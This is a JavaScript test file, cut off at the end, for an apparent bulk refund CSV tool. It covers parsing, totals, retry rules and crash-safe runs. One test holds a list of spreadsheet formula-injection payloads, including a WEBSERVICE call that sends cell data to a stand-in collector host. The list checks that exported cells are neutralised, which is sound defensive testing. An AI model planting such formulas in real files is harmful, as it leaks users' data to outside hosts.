// The engine of the bulk screen without a browser: files, sums, the rules, and runs that are killed again and again while
// the sandbox loses answers.

import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { before, beforeEach, describe, test } from "node:test";
import papa from "papaparse";
import { createSandbox } from "refund-signer/sandbox";
import * as signer from "refund-signer/slim";
import { digestOf } from "../../edge-signer/digest.js";
import { BusyElsewhere, createController } from "../../www/src/bulk/controller.js";
import { CsvError, decodeFile, parseCsv, writeCsv } from "../../www/src/bulk/csv.js";
import { direct } from "../../www/src/bulk/destination.js";
import { importFile } from "../../www/src/bulk/import.js";
import { finalState, resultCsv } from "../../www/src/bulk/result.js";
import { readRows } from "../../www/src/bulk/rows.js";
import { findOwn, nextStep } from "../../www/src/bulk/rules.js";
import { createRunner, stateOf } from "../../www/src/bulk/runner.js";
import { isSameValue, totals } from "../../www/src/bulk/totals.js";
import { armFaults, bulkFile, bulkPayments, timesRefunded } from "./bulk.file.js";

before(async () => {
  const url = new URL("../../pkg/refund_signer.wasm", import.meta.url);
  signer.init(await readFile(url));
});

describe("CSV", () => {
  test("lines are those of the file, also behind quoted line breaks and empty lines", async () => {
    const text = '\ufeffa,b\r\n1,"two\r\nlines"\r\n\r\n"say ""hi""",4\n5,6';
    assert.deepEqual(await parseCsv(text), [
      { line: 1, cells: ["a", "b"] },
      { line: 2, cells: ["1", "two\nlines"] },
      { line: 5, cells: ['say "hi"', "4"] },
      { line: 6, cells: ["5", "6"] },
    ]);
  });

  test("semicolons and tabs are understood", async () => {
    for (const delimiter of [";", "\t"]) {
      assert.deepEqual((await parseCsv(`a${delimiter}b\n1,5${delimiter}2`))[1]?.cells, ["1,5", "2"]);
    }
  });

  for (const text of ['a,b\n1,"open\n2,3', 'a,b\n"x"y,2\n']) {
    test(`a broken quote refuses the whole file: ${JSON.stringify(text)}`, async () => {
      await assert.rejects(
        () => parseCsv(text),
        (error) => error instanceof CsvError && /Line 2/.test(error.message),
      );
    });
  }

  test("what is not UTF-8 is refused", () => {
    assert.throws(() => decodeFile(Uint8Array.of(0xe9, 0x2c)), CsvError);
    assert.equal(decodeFile(new TextEncoder().encode("é")), "é");
  });

  test("what is written is read again, and no cell is a formula", async () => {
    const rows = [
      ['a "b"', "c,d\ne"],
      ["=1+1", "plain"],
      ["a=b; c-d", "1,-2"],
    ];
    const read = (await parseCsv(await writeCsv(["x", "y"], rows))).map(({ cells }) => cells);
    assert.deepEqual(read, [
      ["x", "y"],
      ['a "b"', "c,d\ne"],
      ["'=1+1", "plain"],
      ["a=b; c-d", "1,-2"],
    ]);
  });

  describe("no cell is a formula, whatever a spreadsheet takes for the end of a cell", () => {
    const HOSTILE = [
      ...["=1+1", "+1", "-1", "@SUM(1)", "＝1+1", "＋1", "－1", "＠SUM(1)"],
      ...["\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u0000=1+1", '"=1+1'],
      ...[
        "\tx",
        "\rx",
        "x\n=1+1",
        "x\r=1+1",
        "x\r\n=1+1",
        "x\t=1+1",
        "ok;=1+1;",
        "ok; =1+1;",
        "ok;;=1+1;",
        "ok;\n;＝1+1;",
      ],
      ...['ok;"=1+1;"', 'ok;""=1+1;', "a,b\n=1+1\n", '=WEBSERVICE("http://collector.example/?"&B2)\n', "+2+5\n-1"],
    ];
    const FORMULA = /^[\p{Z}\p{C}]*[=+\-@＝＋－＠]|^[\t\r]\S/u;
    const isFormula = (cell) => FORMULA.test(cell);

    for (const [name, delimiter] of [
      ["commas", ","],
      ["semicolons", ";"],
      ["tabs", "\t"],
    ]) {
      test(`with ${name} between the cells`, async () => {
        for (const cell of HOSTILE) {
          const file = await writeCsv(
            ["#note", `#x${cell}`, "#y"],
            [
              ["x", cell, "y"],
              [cell, "x", cell],
            ],
          );
          for (const newline of ["\n", "\r", "\r\n"]) {
            const { data } = papa.parse(file, { delimiter, newline });
            const found = [...data.flat(), ...cellsOf(file, delimiter)].filter(isFormula);
            assert.deepEqual(found, [], JSON.stringify(cell));
          }
        }
      });
    }

    test("and with commas every cell comes back, with apostrophes at most", async () => {
      for (const cell of HOSTILE) {
        const { data } = papa.parse(await writeCsv(["#note", "#x"], [[cell, "x"]]), {
          delimiter: ",",
          newline: "\r\n",
        });
        assert.equal(data[1][0].replaceAll("'", ""), cell);
        assert.equal(data[1][1], "x");
      }
    });

    test("this check can fail", () => {
      assert.ok(cellsOf('x,"ok;=1+1;",y', ";").some(isFormula));
      assert.ok(cellsOf('x,"ok;""=1+1;",y', ";").some(isFormula));
    });
  });
});

/** The cells as a spreadsheet takes them: a quote counts where a cell begins with it, and what stands behind its end is text. */
function cellsOf(file, delimiter) {
  const cells = [""];
  let isQuoted = false;
  for (let at = 0; at < file.length; at += 1) {
    const char = file[at];
    const isFirst = cells.at(-1) === "" && (at === 0 || [delimiter, "\r", "\n"].includes(file[at - 1]));
    if (char === '"' && !isQuoted && isFirst) isQuoted = true;
    else if (char === '"' && isQuoted && file[at + 1] === '"') {
      cells[cells.length - 1] += char;
      at += 1;
    } else if (char === '"' && isQuoted) isQuoted = false;
    else if (!isQuoted && [delimiter, "\r", "\n"].includes(char)) cells.push("");
    else cells[cells.length - 1] += char;
  }
  return cells;
}

describe("totals", () => {
  test("are exact beyond what a float holds", () => {
    const amounts = [
      { value: "9007199254740993.01", currency: "IDR" },
      { value: "0.1", currency: "INR" },
      { value: "0.2", currency: "INR" },
      { value: "9007199254740993", currency: "IDR" },
      { value: "1.005", currency: "KWD" },
    ];
    assert.deepEqual(totals(amounts), [
      { currency: "IDR", value: "18 014 398 509 481 986.01", rows: 2 },
      { currency: "INR", value: "0.3", rows: 2 },
      { currency: "KWD", value: "1.005", rows: 1 },
    ]);
  });

  test("the same number in two spellings", () => {
    assert.ok(isSameValue("10", "10.00"));
    assert.ok(!isSameValue("10", "10.01"));
    assert.ok(isSameValue("0.50", "0.5"));
  });
});

describe("rows", () => {
  const read = async (text) => (await readRows(text)).rows;

  test("a good row becomes a plan, the same each time", async () => {
    const text = "provider,paymentId,amount,currency\nrazorpay,pay_FCXKPFtYfPXJPy,100.00,INR\n";
    const [[first], [second]] = await Promise.all([read(text), read(text)]);
    assert.deepEqual(first.plan, second.plan);
    assert.match(first.plan.idempotencyKey, /^bulk-[0-9a-f]{16}-1$/);
    assert.equal(JSON.parse(first.plan.body).receipt, first.plan.idempotencyKey);
    const [other] = await read(text.replace("100.00", "101.00"));
    assert.notEqual(other.plan.idempotencyKey, first.plan.idempotencyKey);
  });

  test("neither quotes nor line ends nor empty lines make it another file", async () => {
    const a = await readRows("provider,paymentId\nrazorpay,pay_FCXKPFtYfPXJPy\n");
    const b = await readRows('\ufeffProvider,payment_id\r\n\r\n"razorpay","pay_FCXKPFtYfPXJPy"\r\n');
    assert.equal(a.hash, b.hash);
  });

  test("all that is wrong with a row is said, with its line", async () => {
    const rows = await read(`provider,paymentId,amount,currency,speed,reverseAll,invoiceNumber,#remark
razorpay,"pay
1",1.234,INR,fast,yes,INV-1,x
durianpay,,,,,,,
nobody,1,2,INR,,,,
razorpay,pay_FCXKPFtYfPXJPy,1,INR
`);
    assert.deepEqual(
      rows.map(({ line }) => line),
      [2, 4, 5, 6],
    );
    assert.deepEqual(
      rows[0].problems.map(({ path }) => path).sort(),
      ["amount", "invoiceNumber", "paymentId", "reverseAll", "speed"]
        .map((path) => (path === "amount" ? "amount.value" : path))
        .sort(),
    );
    assert.deepEqual(rows[1].problems.map(({ path }) => path).sort(), ["amount", "paymentId", "refId"]);
    assert.match(rows[2].problems[0].message, /nobody\.createRefund is no refund/);
    assert.match(rows[3].problems[0].message, /has 4 cells, and the header has 8/);
    assert.ok(rows.every(({ plan }) => plan === undefined));
  });

  test("a slip in a column's name is no full refund", async () => {
    await assert.rejects(read("provider,paymentId,ammount\nrazorpay,pay_FCXKPFtYfPXJPy,1\n"), /“ammount”/);
    await assert.rejects(read("provider,paymentId,payment_id\nrazorpay,a,b\n"), /stands twice/);
    await assert.rejects(read("paymentId\na\n"), /no column “provider”/);
    await assert.rejects(read("provider\n"), /no rows/);
  });

  test("a row without an amount is told from one with an amount", async () => {
    const rows = await read(
      "provider,paymentId,amount,currency\nrazorpay,pay_FCXKPFtYfPXJPy,,\nrazorpay,pay_FCXKPFtYfPXJPy,1.00,INR\n",
    );
    assert.deepEqual(
      rows.map(({ warnings }) => warnings.length),
      [1, 0],
    );
  });

  test("rows that ask for the same are marked; their remarks do not count", async () => {
    const rows = await read(
      "provider,paymentId,refId,amount,currency,notes\ndurianpay,pay_1,a,5000,IDR,x\ndurianpay,pay_1,a,5000,IDR,y\ndurianpay,pay_1,b,5000,IDR,x\n",
    );
    assert.deepEqual(
      rows.map(({ repeats }) => repeats),
      [undefined, "line 2", undefined],
    );
  });
});

describe("the fingerprint of a row", () => {
  const first = async (text) => (await readRows(text)).rows[0];
  const same = async (a, b) => (await first(a)).fingerprint === (await first(b)).fingerprint;
  const razorpay = "provider,paymentId,amount,currency\nrazorpay,pay_FCXKPFtYfPXJPy,10.50,INR\n";
  const durianpay = "provider,paymentId,refId,amount,currency\ndurianpay,pay_1,a,5000,IDR\n";

  test("is that of the refund, however a spreadsheet writes it", async () => {
    assert.ok(await same(razorpay, razorpay.replace("10.50", "10.5")));
    assert.ok(await same(durianpay, durianpay.replace("5000", "5000.00")));
    assert.ok(
      await same(
        razorpay,
        "currency,amount,paymentId,provider,operation\nINR,10.5,pay_FCXKPFtYfPXJPy,razorpay,createRefund",
      ),
    );
    const flag = (text) => `provider,paymentId,reverseAll\nrazorpay,pay_FCXKPFtYfPXJPy,${text}\n`;
    assert.ok(await same(flag("true"), flag("TRUE")));
  });

  test("does not depend on the file, nor on remarks", async () => {
    const more = `${razorpay}razorpay,pay_FCXKPFtYfPXJPy,1.00,INR\n`;
    assert.notEqual((await first(more)).plan.idempotencyKey, (await first(razorpay)).plan.idempotencyKey);
    assert.ok(await same(razorpay, more));
    const noted = (text) => `provider,paymentId,refId,amount,currency,notes\ndurianpay,pay_1,a,5000,IDR,${text}\n`;
    assert.ok(await same(durianpay, noted("late")));
    const doku = (text) =>
      `provider,invoiceNumber,originalRequestId,amount,currency,reason\ndoku,i,r,1000,IDR,${text}\n`;
    assert.ok(await same(doku("late"), doku("")));
  });

  test("another payment, amount, currency or name of one's own is another refund", async () => {
    assert.ok(!(await same(razorpay, razorpay.replace("10.50", "10.51"))));
    assert.ok(!(await same(razorpay, razorpay.replace("pay_F", "pay_G"))));
    assert.ok(!(await same(razorpay, razorpay.replace("INR", "USD"))));
    assert.ok(!(await same(durianpay, durianpay.replace(",a,", ",b,"))));
  });
});

describe("the rules", () => {
  const plans = {};
  before(() => {
    plans.razorpay = signer.razorpay.createRefund({ paymentId: "pay_FCXKPFtYfPXJPy", receipt: "r" });
    plans.durianpay = signer.durianpay.createRefund({
      paymentId: "pay_1",
      refId: "r",
      amount: { value: "5000", currency: "IDR" },
    });
  });
  const direct_ = { repeatable: true, recallable: false };
  const edge = { repeatable: false, recallable: true };
  const sent = (status, next, more = {}) => ({
    kind: "send",
    at: 0,
    outcome: { kind: "verdict", told: { status, next, ...more } },
  });
  const open = { kind: "send", at: 0 };
  const queried = (found) => ({
    kind: "query",
    at: 0,
    outcome: { kind: "verdict", told: { status: "succeeded", next: "done" }, found },
  });
  const unanswered = { kind: "query", at: 0, outcome: { kind: "verdict", told: { status: "unknown", next: "retry" } } };
  const unsigned = { kind: "send", at: 0, outcome: { kind: "refused", told: { status: "rejected", next: "fix" } } };
  const says = (what) => ({ kind: "person", at: 0, says: what });
  const next = (provider, steps, traits = direct_, now = 1000, hasQuery = true) => {
    const step = nextStep(plans[provider], steps, traits, now, hasQuery);
    return step.do === "end" ? step.state : step.do;
  };

  const cases = [
    ["nothing was done", "durianpay", [], "send"],
    ["done", "durianpay", [sent("succeeded", "done")], "succeeded"],
    ["pending", "durianpay", [sent("pending", "wait")], "pending"],
    ["failed", "durianpay", [sent("failed", "fix")], "failed"],
    ["rejected", "durianpay", [sent("rejected", "fix")], "rejected"],
    ["rate limited: the same plan again", "durianpay", [sent("rejected", "retry", { retryAfterMs: 2000 })], "send"],
    ["a token is missing", "durianpay", [sent("rejected", "reauthenticate")], "held"],
    ["unknown: asked before anything else", "razorpay", [sent("unknown", "query")], "query"],
    ["the page was closed while it was sent: asked before anything else", "razorpay", [open], "query"],
    ["found", "durianpay", [open, queried("succeeded")], "succeeded"],
    ["found, not final", "durianpay", [open, queried("pending")], "pending"],
    ["found, failed", "durianpay", [open, queried("failed")], "failed"],
    ["found with another amount", "razorpay", [open, queried("mismatch")], "unresolved"],
    ["not found where a key makes it safe", "razorpay", [open, queried("absent")], "send"],
    ["not found where nothing makes it safe: asked again", "durianpay", [open, queried("absent")], "query"],
    [
      "still not found: a person",
      "durianpay",
      [open, queried("absent"), queried("absent"), queried("absent")],
      "unresolved",
    ],
    ["the question is not answered", "durianpay", [open, unanswered], "query"],
    ["the question is never answered", "durianpay", [open, ...Array(6).fill(unanswered)], "unresolved"],
    [
      "a no after an attempt of which nobody knows",
      "razorpay",
      [sent("unknown", "query"), queried("absent"), sent("rejected", "fix")],
      "unresolved",
    ],
    [
      "the provider's record of an attempt of which nobody knew",
      "razorpay",
      [sent("unknown", "query"), queried("absent"), sent("failed", "fix", { replayed: true })],
      "failed",
    ],
    ["a no after a no", "razorpay", [sent("rejected", "retry"), sent("rejected", "fix")], "rejected"],
    ["a person looked: again", "durianpay", [open, queried("absent"), says("again")], "send"],
    ["a person looked: it is there", "durianpay", [open, queried("absent"), says("refunded")], "succeeded"],
    ["a person asks", "durianpay", [sent("pending", "wait"), says("ask")], "query"],
    ["retried without end", "durianpay", Array(6).fill(sent("rejected", "retry")), "unresolved"],
    ["not signed after an attempt of which nobody knows", "razorpay", [sent("unknown", "query"), unsigned], "query"],
    [
      "asked about, and then not signed",
      "razorpay",
      [sent("unknown", "query"), queried("absent"), unsigned],
      "unresolved",
    ],
    ["not signed, and nothing was sent before", "razorpay", [unsigned], "rejected"],
  ];
  for (const [name, provider, steps, expected] of cases)
    test(name, () => assert.equal(next(provider, steps), expected));

  describe("what a person did is no reason to forget", () => {
    const DAY = 24 * 3_600_000;
    const on = (day, step) => ({ ...step, at: day * DAY });
    const inProgress = sent("unknown", "retry");
    const noToken = sent("rejected", "reauthenticate");
    const no = sent("rejected", "fix");
    const unclear = queried("unclear");

    test("what was accepted is never sent again, whatever asking about it tells", () => {
      const accepted = [sent("pending", "wait"), on(3, says("ask"))];
      assert.equal(next("razorpay", [...accepted, on(3, unclear)], direct_, 3 * DAY), "pending");
      assert.equal(next("razorpay", [...accepted, on(3, queried("absent"))], direct_, 3 * DAY), "query");
      const absent = Array(3).fill(on(3, queried("absent")));
      assert.equal(next("razorpay", [...accepted, ...absent], direct_, 3 * DAY), "unresolved");
      assert.equal(next("razorpay", [...accepted, ...absent, on(3, says("ask"))], direct_, 3 * DAY), "query");
      assert.equal(next("razorpay", [open, queried("pending"), says("ask"), queried("absent")]), "query");
      assert.equal(next("razorpay", [sent("pending", "wait"), says("ask"), unclear, no]), "unresolved");
    });

    test("to ask again makes the first attempt no younger", () => {
      const old = [sent("unknown", "query"), on(2, unclear), on(2, says("ask")), on(2, unclear)];
      assert.equal(next("razorpay", old, direct_, 2 * DAY), "unresolved");
      const young = [sent("unknown", "query"), unclear, says("ask"), unclear];
      assert.equal(next("razorpay", young), "send");
    });

    test("a refusal that came before the first attempt that may have moved money makes it no older", () =>
      assert.equal(
        next("razorpay", [noToken, on(3, says("goOn")), on(3, open), on(3, unclear)], direct_, 3 * DAY),
        "send",
      ));

    test("a new token takes back no doubt", () => {
      assert.equal(next("razorpay", [noToken, says("goOn")]), "send");
      assert.equal(next("razorpay", [noToken, says("goOn"), no]), "rejected");
      assert.equal(next("razorpay", [inProgress, noToken]), "held");
      assert.equal(next("razorpay", [inProgress, noToken, says("goOn")]), "send");
      assert.equal(next("razorpay", [inProgress, noToken, says("goOn"), no]), "query");
      assert.equal(next("durianpay", [open, noToken, says("goOn")]), "query", "no second one is recognized there");
    });

    test("after a day nothing in doubt is sent again, whoever goes on", () => {
      assert.equal(next("razorpay", [inProgress, noToken, on(30, says("goOn"))], direct_, 30 * DAY), "query");
      assert.equal(next("razorpay", [inProgress, noToken, says("goOn")], direct_, 30 * DAY, false), "unresolved");
      assert.equal(next("razorpay", [inProgress], direct_, 30 * DAY), "query");
      assert.equal(next("razorpay", [inProgress]), "send");
      assert.equal(next("razorpay", [sent("rejected", "retry")], direct_, 30 * DAY), "send");
      assert.equal(next("razorpay", [inProgress], edge, 30 * DAY), "send", "its books know");
    });

    test("a second person's yes: the edge signer is asked for what it did", () =>
      assert.equal(
        next("durianpay", [{ ...open, outcome: { kind: "awaiting" } }, on(3, says("goOn"))], edge, 3 * DAY),
        "send",
      ));

    test("what the edge signer follows is asked for again, and left to it", () => {
      const followed = { kind: "send", at: 0, outcome: { kind: "open" } };
      const review = { kind: "send", at: 0, outcome: { kind: "review" } };
      const edge_ = (steps) => next("durianpay", steps, edge, 0, false);
      assert.equal(edge_([open]), "send");
      assert.equal(edge_([followed]), "send");
      assert.equal(edge_(Array(6).fill(followed)), "pending");
      assert.equal(edge_([...Array(6).fill(followed), says("ask")]), "send");
      assert.equal(edge_([followed, review]), "unresolved");
      assert.equal(edge_([review, says("ask")]), "send");
      assert.equal(edge_([followed, { ...unsigned }]), "unresolved", "it was silent about what it did before");
    });

    test("who looked begins anew", () => {
      const looked = [sent("unknown", "query"), on(2, unclear), on(2, says("again"))];
      assert.equal(next("razorpay", looked, direct_, 2 * DAY), "send");
      assert.equal(next("razorpay", [...looked, on(2, open), on(2, unclear)], direct_, 2 * DAY), "send");
      assert.equal(next("razorpay", [...looked, on(2, no)], direct_, 2 * DAY), "rejected");
    });
  });

  test("too old to be repeated", () =>
    assert.equal(next("razorpay", [open, queried("absent")], direct_, 25 * 3_600_000), "unresolved"));
  test("cannot be asked about", () => assert.equal(next("durianpay", [open], direct_, 0, false), "unresolved"));
  test("the edge signer's books are asked by the same plan", () =>
    assert.equal(next("durianpay", [open], edge), "send"));
  test("the edge signer's own no takes nothing back of what it may have sent", () => {
    const lost = { kind: "send", at: 0, outcome: { kind: "lost" } };
    const awaiting = { kind: "send", at: 0, outcome: { kind: "awaiting" } };
    assert.equal(next("durianpay", [lost, unsigned], edge), "query");
    assert.equal(next("durianpay", [lost, unsigned], edge, 1000, false), "unresolved");
    // A second person may have approved it, and so had it sent, in the meantime.
    assert.equal(next("durianpay", [awaiting, unsigned], edge), "query");
    assert.equal(next("durianpay", [unsigned], edge), "rejected");
  });
  test("the edge signer sends nothing twice, so the same plan resolves nothing", () =>
    assert.equal(
      next("razorpay", [sent("unknown", "query"), ...Array(3).fill(queried("absent"))], edge),
      "unresolved",
    ));

  test("its own refund is found by its name, not by its amount", () => {
    const refunds = [
      { reference: "other", status: "succeeded" },
      { reference: "r", id: "rfnd_1", status: "succeeded", amount: { value: "5000.00", currency: "IDR" } },
    ];
    const verdict = { status: "succeeded", next: "done", refunds };
    assert.deepEqual(findOwn(plans.durianpay, { value: "5000" }, verdict), { found: "succeeded", refundId: "rfnd_1" });
    assert.equal(findOwn(plans.durianpay, { value: "5001" }, verdict).found, "mismatch");
    assert.equal(
      findOwn(plans.durianpay, { value: "5000" }, { ...verdict, refunds: refunds.slice(0, 1) }).found,
      "absent",
    );
    assert.deepEqual(findOwn(plans.durianpay, { value: "5000" }, { status: "unknown", next: "retry" }), {});
  });
});

describe("the controller", () => {
  before(() => {
    const locks = { request: (_name, _options, work) => work({}) };
    Object.defineProperty(globalThis, "navigator", { value: { locks }, configurable: true });
  });

  /** One run on the screen, whose plans go to `send`. */
  function controllerOf(run, rows, store, send) {
    const destination = { repeatable: true, recallable: false, hasQuery: () => true, send, query: send };
    const held = [];
    const idle = { concurrency: () => 1, redraw: () => {}, stopped: () => {} };
    const controller = createController({ run, rows, store, destination, held: (count) => held.push(count), ...idle });
    return Object.assign(controller, { held });
  }

  test("a file that another tab sends is not forgotten, and one that another tab has sent is known as sent", async () => {
    const { rows } = await readRows(bulkFile(1));
    const store = library();
    const run = { id: "a", started: false, withRepeats: false };
    await store.add(run, rows);
    const controller = controllerOf(run, rows, store, async () => {});
    const other = { ...run };
    await store.changeRun(other, { started: true });
    assert.equal(await controller.wasStarted(), true);
    const { request } = navigator.locks;
    navigator.locks.request = (_name, _options, work) => work(null);
    await assert.rejects(controller.forget(), BusyElsewhere);
    navigator.locks.request = request;
    assert.equal((await store.runs()).length, 1);
    await controller.forget();
    assert.equal((await store.runs()).length, 0);
  });

  test("who goes on with a new token has not looked at the provider's", async () => {
    const { rows } = await readRows(bulkFile(1));
    const answers = [
      { status: "unknown", next: "retry" },
      { status: "rejected", next: "reauthenticate" },
    ];
    const send = async () => ({ kind: "verdict", told: answers.shift() ?? { status: "rejected", next: "fix" } });
    const store = library();
    const run = { id: "a", started: false, withRepeats: false };
    await store.add(run, rows);
    const controller = controllerOf(run, rows, store, send);
    await controller.start();
    assert.equal(controller.seen(rows[0]).state, "held");
    await controller.start();
    assert.deepEqual(
      rows[0].steps.map(({ kind, says }) => says ?? kind),
      ["send", "send", "goOn", "send", "query"],
    );
    assert.equal(controller.seen(rows[0]).state, "unresolved");
  });

  describe("two versions of one file", () => {
    const bad =
      "provider,paymentId,refId,amount,currency\ndurianpay,pay_1,order-1,10500,IDR\ndurianpay,pay_1,order-2,2O000,IDR\n";
    const good = bad.replace("2O000", "20000");
    let store;
    let sent;
    beforeEach(() => {
      store = library();
      sent = [];
    });

    const send = async ({ body }) => {
      sent.push(JSON.parse(body).ref_id);
      return { kind: "verdict", told: { status: "succeeded", next: "done" } };
    };
    const take = async (name, text, destination = "sandbox") => {
      const file = { name, bytes: new TextEncoder().encode(text) };
      const { run, rows } = await importFile(store, file, destination);
      return controllerOf(run, rows, store, send);
    };
    const states = ({ rows, seen }) => rows.map((row) => seen(row).state);

    test("dropped after the first one was sent", async () => {
      await (await take("refunds.csv", bad)).start();
      const fixed = await take("fixed.csv", good);
      assert.deepEqual(states(fixed), ["left out", "ready"]);
      await fixed.start();
      assert.deepEqual(sent, ["order-1", "order-2"]);
    });

    test("both dropped before either is sent, in either order", async () => {
      for (const order of [
        [0, 1],
        [1, 0],
      ]) {
        store = library();
        sent = [];
        const files = [await take("refunds.csv", bad), await take("fixed.csv", good)];
        for (const place of order) await files[place].start();
        assert.deepEqual(sent.toSorted(), ["order-1", "order-2"]);
        const second = files[order[1]];
        assert.equal(states(second)[0], "left out");
        assert.match(second.seen(second.rows[0]).why, /Asks for the same as a row of “.+”, which was sent on/);
        assert.deepEqual(second.held, [1]);
        assert.match((await store.rowsOf(second.run.id))[0].repeats, /^a row of/, "it is stored");
        // The person decides, once.
        await second.includeRepeats(true);
        await second.start();
        assert.deepEqual(sent.filter((name) => name === "order-1").length, 2);
        assert.deepEqual(second.held, [1]);
      }
    });

    test("dropped while the first one is paused", async () => {
      const first = await take("refunds.csv", bad);
      await store.changeRun(first.run, { started: true });
      const fixed = await take("fixed.csv", good);
      assert.deepEqual(states(fixed), ["left out", "ready"]);
      assert.match(fixed.rows[0].repeats, /which is to be sent/);
      await fixed.start();
      await first.start();
      assert.deepEqual(sent, ["order-2", "order-1"], "what is left out there is sent here");
    });

    test("what was ticked before is no decision about what is found now", async () => {
      const twice = `${good}durianpay,pay_1,order-2,20000,IDR\n`;
      const files = [await take("refunds.csv", bad), await take("twice.csv", twice)];
      await files[1].includeRepeats(true);
      await files[0].start();
      await files[1].start();
      assert.deepEqual(states(files[1]), ["left out", "succeeded", "left out"]);
      assert.deepEqual(sent, ["order-1", "order-2"]);
    });

    test("on their way to two destinations", async () => {
      await (await take("refunds.csv", bad)).start();
      assert.deepEqual(states(await take("fixed.csv", good, "signer")), ["ready", "ready"]);
    });
  });
});

/** The runs of a browser, and their rows, in memory: what is read is a copy, as from a disk. */
function library() {
  const runs = new Map();
  const rows = new Map();
  const nameOf = ({ run, index }) => `${run} ${index}`;
  const keep = async (row) => {
    rows.set(nameOf(row), structuredClone(row));
  };
  const all = () => structuredClone([...rows.values()]);
  return {
    runs: async () => structuredClone([...runs.values()]),
    async add(run, list) {
      runs.set(run.id, structuredClone(run));
      for (const row of list) await keep({ ...row, run: run.id });
    },
    async changeRun(run, change) {
      runs.set(run.id, structuredClone(Object.assign(run, runs.get(run.id), change)));
    },
    async forget(id) {
      runs.delete(id);
      for (const row of all()) if (row.run === id) rows.delete(nameOf(row));
    },
    rowsOf: async (id) => all().filter(({ run }) => run === id),
    rowsLike: async (fingerprints) => all().filter(({ fingerprint }) => fingerprints.includes(fingerprint)),
    saveAll: async (list) => {
      for (const row of list) await keep(row);
    },
    mark: keep,
    save: keep,
  };
}

/** A store in memory, which survives what the page does not. */
function memory(rows) {
  const stored = new Map(rows.map((row) => [row.index, structuredClone(row)]));
  const keep = async (row) => {
    stored.set(row.index, structuredClone(row));
  };
  return { mark: keep, save: keep, rows: () => [...stored.values()].map((row) => structuredClone(row)) };
}

/** Stores nothing that was done: what the other one is there for. */
function forgetful(rows) {
  const store = memory(rows);
  return { ...store, mark: async () => {}, save: async () => {} };
}

/**
 * Runs a file to its end, killed a few times in between. A person resolves what the rules leave to a person, by looking
 * into the provider's books.
 */
async function runToTheEnd({ size, kills, makeStore = memory, rule, hasFaults = true }) {
  const sandbox = createSandbox({ payments: bulkPayments(size) });
  const { rows } = await readRows(bulkFile(size));
  assert.ok(
    rows.every(({ plan }) => plan),
    JSON.stringify(rows.find(({ plan }) => !plan)?.problems),
  );
  if (hasFaults) armFaults(sandbox, Math.ceil(size / 100));
  const store = makeStore(rows);
  const destination = direct({
    fetch: sandbox.fetch,
    settings: (provider) => sandbox.credentials[provider],
    timeoutMs: 100,
  });
  for (let kill = 0; kill < kills; kill += 1)
    await runUntilKilled(store.rows(), destination, store, Math.ceil(size / (kills + 1)), rule);
  for (let round = 0; round < 5; round += 1) {
    const all = store.rows();
    const runner = createRunner({ rows: all, destination, store, includes: () => true, changed: () => {}, rule });
    await runner.start();
    const unresolved = all.filter((row) => stateOf(row, destination, Date.now(), rule).state === "unresolved");
    if (unresolved.length === 0) return { sandbox, rows: all, destination };
    for (const row of unresolved) await runner.decide(row, isInBooks(sandbox, row) ? "refunded" : "again");
  }
  throw new Error("rows stay unresolved");
}

/**
 * Drops a runner in the middle, when a provider has just answered: what is under way still happens, but nothing of it is
 * learned or stored.
 */
function runUntilKilled(rows, destination, store, answers, rule) {
  return new Promise((resolve) => {
    let left = answers;
    let isDead = false;
    const gone = new Promise(() => {});
    const alive = (work) => (plan, amount) =>
      isDead ? gone : work(plan, amount).then((result) => (isDead ? gone : result));
    const send = async (plan) => {
      if (isDead) return gone;
      const result = await destination.send(plan);
      left -= 1;
      if (left > 0) return isDead ? gone : result;
      isDead = true;
      resolve();
      return gone;
    };
    const runner = createRunner({
      rows,
      rule,
      destination: { ...destination, send, query: alive(destination.query) },
      store: { mark: alive(store.mark), save: alive(store.save) },
      includes: () => true,
      changed: () => {},
    });
    runner.start().then(resolve, resolve);
  });
}

function isInBooks({ ledger }, { plan }) {
  const { receipt, ref_id, partnerRefundNo } = JSON.parse(plan.body);
  const reference = receipt ?? ref_id ?? partnerRefundNo;
  const names = [reference, plan.idempotencyKey].filter((name) => name !== undefined);
  const own = ledger.refunds.filter(({ provider }) => provider === plan.provider);
  return own.some((refund) => names.includes(refund.reference) || names.includes(refund.idempotencyKey));
}

test("the digest of a plan covers all that is sent, and nothing else", async () => {
  const [{ plan }] = (await readRows(bulkFile(1))).rows;
  assert.ok(plan.currency);
  const { version, currency, ...members } = plan;
  assert.equal(await digestOf({ ...members, version }), await digestOf(plan), "in whatever order they come");
  for (const [name, value] of Object.entries(members))
    assert.notEqual(await digestOf({ ...plan, [name]: `${value}x` }), await digestOf(plan), name);
});

describe("runs", () => {
  test("500 rows, every fault, killed ten times: each refunded exactly once", { timeout: 120_000 }, async () => {
    const { sandbox, rows, destination } = await runToTheEnd({ size: 500, kills: 10 });
    assert.deepEqual([...new Set(timesRefunded(sandbox.ledger.refunds, rows.length))], [1]);
    assert.equal(sandbox.ledger.refunds.length, 500);
    assert.deepEqual(sandbox.faults.pending, [], "every fault was met");
    assert.deepEqual([...new Set(rows.map((row) => finalState(row, destination, Date.now()).state))], ["succeeded"]);
    const lines = await parseCsv(await resultCsv(["a"], rows, destination, Date.now()));
    assert.equal(lines.length, 501);
    assert.equal(lines[0].cells[0], "line");
    assert.match(lines[1].cells[7], /^[0-9a-f]{64}$/);
  });

  test("with a store that forgets, rows are refunded twice: this test can fail", { timeout: 120_000 }, async () => {
    const { sandbox, rows } = await runToTheEnd({ size: 100, kills: 3, makeStore: forgetful, hasFaults: false });
    assert.ok(timesRefunded(sandbox.ledger.refunds, rows.length).some((times) => times > 1));
  });

  test("with a rule that sends an open row again, rows are refunded twice: this test can fail", {
    timeout: 120_000,
  }, async () => {
    const rule = (plan, steps, ...rest) =>
      steps.at(-1)?.kind === "send" && !steps.at(-1).outcome
        ? { do: "send", afterMs: 0 }
        : nextStep(plan, steps, ...rest);
    const { sandbox, rows } = await runToTheEnd({ size: 200, kills: 40, rule, hasFaults: false });
    assert.ok(timesRefunded(sandbox.ledger.refunds, rows.length).some((times) => times > 1));
  });

  test("what cannot be stored is not sent", async () => {
    const { rows } = await readRows(bulkFile(10));
    let sent = 0;
    const destination = {
      repeatable: true,
      recallable: false,
      hasQuery: () => true,
      send: async () => (sent += 1),
      query: async () => {},
    };
    const store = { mark: () => Promise.reject(new Error("disk full")), save: async () => {} };
    const runner = createRunner({ rows, destination, store, includes: () => true, changed: () => {} });
    await assert.rejects(runner.start(), /disk full/);
